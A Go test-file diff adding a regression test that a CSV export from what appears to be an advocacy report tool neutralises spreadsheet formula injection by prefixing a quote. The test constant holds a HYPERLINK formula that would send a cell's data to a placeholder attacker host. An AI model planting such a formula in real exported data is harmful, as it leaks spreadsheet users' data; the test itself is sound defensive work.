@@ -84,3 +84,38 @@ func TestWriteCSVAndJSON(t *testing.T) {
 		t.Fatalf("JSON: %s", b.String()[:300])
 	}
 }
+
+// TestWriteCSVNeutralisesFormulas: a prefecture typed as a formula reached
+// the advocacy CSV as a live formula (a spreadsheet would follow the link
+// with the sheet's data). WriteCSV now writes through csvio's writer, as
+// export-csv does: the cell keeps its text behind a leading quote.
+func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	const evil = `=HYPERLINK("http://evil.example/?"&A2,"click")`
+	var recs []Record
+	for i := 0; i < 2*Threshold; i++ {
+		r := rec(fmt.Sprint("p", i), model.ProcRenewal, evil, model.MalfNoAppointment)
+		recs = append(recs, r)
+	}
+	rep := Compute(recs, Filter{})
+	var b bytes.Buffer
+	label := func(table, axis, key string) string { return key }
+	if err := WriteCSV(&b, rep, label); err != nil {
+		t.Fatal(err)
+	}
+	lines, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	seen := false
+	for _, l := range lines {
+		for _, c := range l {
+			if strings.HasPrefix(c, "=") || strings.HasPrefix(c, "+") || strings.HasPrefix(c, "@") {
+				t.Fatalf("live formula in the CSV: %q", c)
+			}
+			seen = seen || c == "'"+evil
+		}
+	}
+	if !seen {
+		t.Fatalf("the prefecture is not in the CSV, neutralised: %v", lines)
+	}
+}
